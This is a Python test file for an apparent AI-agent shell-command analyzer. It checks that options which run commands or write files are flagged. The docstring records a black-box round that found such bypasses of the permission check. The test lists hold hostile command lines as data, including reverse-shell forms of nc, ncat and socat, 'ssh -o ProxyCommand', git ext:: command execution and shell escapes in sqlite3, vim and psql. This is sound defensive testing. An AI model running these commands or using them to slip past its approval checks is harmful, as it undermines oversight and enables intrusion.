"""Options that run commands or write files, found in the third black-box round
(``shell.program_options``, ``shell._more_program_options``).

With the program allowed and a harmless use of it approved, each line below ran ``touch``
(git clone's own ``-c``, ``git remote-ext``, ``git --git-dir``, ``less --lesskey-src``,
``less '+!cmd'``, ``split --filter``, ``sqlite3 '.shell'``, ``vim -c '!cmd'``, ``ssh -o
ProxyCommand`` …) or wrote a file without the question a redirection gets (``curl
--stderr F``, ``wget``, ``split``, ``gzip F``). Each is now ``unknown`` (hidden code),
``runs_code`` (an interpreter) or a write.
"""

from __future__ import annotations

import pytest

from agentworld.shell.commands import analyze


def _first(line: str) -> tuple[str, bool]:
    part = analyze(line).parts[0]
    return part.opacity, part.redirects_output


@pytest.mark.parametrize(
    "line",
    [
        "git clone -q -c protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
        "git clone --config protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
        "git clone --conf=protocol.ext.allow=always x d",
        "git clone -qc protocol.ext.allow=always x d",
        "git submodule -c x=y update",
        "git remote-ext x 'touch PWNED'",
        "git remote-fd 3",
        "git remote-https origin https://example.org",
        "git --git-dir=vendor/evil.git --work-tree=. status",
        "git --git-dir vendor/evil.git status",
        "git --work-tree=. status",
        "git --git-d=vendor/evil.git status",
        "git clone -q --template=tpl src d",
        "git clone --template tpl src d",
        "git init --template=tpl",
        "git init --separate-git-dir=elsewhere",
        "git send-email --sendmail-cmd='touch PWNED' a.patch",
        "git send-email --to-cmd='touch PWNED' a.patch",
        "git send-email --cc-cmd='touch PWNED' a.patch",
        "git send-email a.patch",
        "less --lesskey-src=/dev/stdin f",
        "less --lesskey-file=keys f",
        "less --lesskey-content='#env' f",
        "less -k keys f",
        "less -kkeys f",
        "less --lesskey f",
        "less '+!touch x' f",
        "less '+|touch x' f",
        "less +v f",
        "less '++!touch x' f",
        "split -n 1 --filter='touch PWNED' f",
        "split --filt='touch PWNED' f",
        "ssh -o ProxyCommand='touch PWNED' host",
        "ssh -oProxyCommand='touch PWNED' host",
        "ssh -vo 'LocalCommand touch PWNED' host",
        "ssh -o PermitLocalCommand=yes host",
        "ssh -o KnownHostsCommand=x host",
        "ssh -F evil.conf host",
        "ssh -I ./evil.so host",
        "scp -S ./evil a host:b",
        "scp -o ProxyCommand=x a host:b",
        "wget --use-askpass='touch PWNED' http://x/",
        "wget -e 'use_askpass=touch PWNED' http://x/",
        "wget --execute=x http://x/",
        "wget --config=evil.rc http://x/",
        "nc -e /bin/sh host 1",
        "nc -c 'touch PWNED' host 1",
        "ncat --exec 'touch PWNED' host 1",
        "ncat --sh-exec 'touch PWNED' host 1",
        "ncat --lua-exec x.lua host 1",
        "socat - EXEC:'touch PWNED'",
        "socat TCP-LISTEN:1,fork SYSTEM:'touch PWNED'",
        "socat - 'OPEN:x,creat'",
        "socat - ./file",
        "gh alias set x '!touch PWNED'",
        "gh alias import aliases.yml",
        "gh extension install owner/gh-evil",
        "gh ext exec x",
        "gh config set pager 'touch PWNED'",
        "gh x",
        "gh repo clone owner/repo -- -c core.fsmonitor=x",
        "curl -K opts.txt http://x/",
    ],
)
def test_an_option_that_runs_a_command_is_hidden_code(line: str) -> None:
    assert _first(line)[0] == "unknown"


@pytest.mark.parametrize(
    "line",
    [
        "sqlite3 x.db .tables",
        "sqlite3 x.db '.shell touch PWNED'",
        "sqlite3 -cmd '.system touch PWNED' x.db",
        "sqlite3 -init evil.sql x.db",
        "vim --version",
        "vim -es -c '!touch PWNED' -c 'q!'",
        "vi -c '!touch PWNED' f",
        "view '+!touch PWNED' f",
        "ex -s f",
        "nvim --cmd x",
        "psql -c '\\! touch PWNED'",
        "psql -f x.sql",
        "mysql -e 'system touch PWNED'",
        "sftp -b batch host",
        "ed f",
        "emacs --batch --eval x",
    ],
)
def test_a_program_that_reads_commands_is_an_interpreter(line: str) -> None:
    assert _first(line)[0] == "runs_code"
    assert analyze(line).keys is None


@pytest.mark.parametrize(
    "line",
    [
        "curl -sv --stderr WRITTEN http://127.0.0.1:9/",
        "curl --etag-save e http://x/",
        "curl --hsts h http://x/",
        "curl --alt-svc a http://x/",
        "curl -c jar http://x/",
        "curl --cookie-jar jar http://x/",
        "curl --trace t http://x/",
        "curl --trace-ascii t http://x/",
        "curl -D h http://x/",
        "curl --dump-header h http://x/",
        "curl -w '%output{f}%{http_code}' http://x/",
        "curl --write-out '%output{f}x' http://x/",
        "curl -w @fmt http://x/",
        "curl --libcurl c.c http://x/",
        "yq -i .a=1 f.yml",
        "yq --inplace .a=1 f.yml",
        "tree -o out.txt",
        "file -C -m magic",
        "wget http://x/",
        "wget -O out http://x/",
        "wget -qO- -o log http://x/",
        "wget -a log -O - http://x/",
        "wget --output-file=log -O - http://x/",
        "split -l 100 f part_",
        "csplit f 3",
        "gzip f",
        "xz -d f.xz",
        "bzip2 f",
        "zstd f -o g",
        "patch -p1",
        "less -o log f",
        "ssh -E log host",
        "scp host:a .",
        "tee f",
        "dd if=a of=b",
    ],
)
def test_an_option_or_program_that_writes_files_counts_as_a_write(line: str) -> None:
    opacity, writes = _first(line)
    assert opacity == "clear"
    assert writes


@pytest.mark.parametrize(
    "line",
    [
        "git status",
        "git log -n 3",
        "git diff",
        "git log -c",
        "git switch -c topic",
        "git init",
        "less f",
        "less -N f",
        "less +G f",
        "less +42 f",
        "less '+/some pattern' f",
        "less -R f",
        "curl -s http://x/",
        "curl -sw '%{http_code}' http://x/",
        "wget -qO- http://x/",
        "wget -O - http://x/",
        "wget --output-document=- http://x/",
        "ssh host ls",
        "ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 host",
        "socat - TCP:host:80",
        "gh pr list",
        "gh alias list",
        "gh api repos/o/r",
        "gzip -c f",
        "gzip -dc f.gz",
        "gzip -l f.gz",
        "xz -t f.xz",
        "tree -L 2",
        "file f",
        "yq .a f.yml",
        "nc -z host 80",
    ],
)
def test_ordinary_uses_stay_clear_and_read_only(line: str) -> None:
    assert _first(line) == ("clear", False)
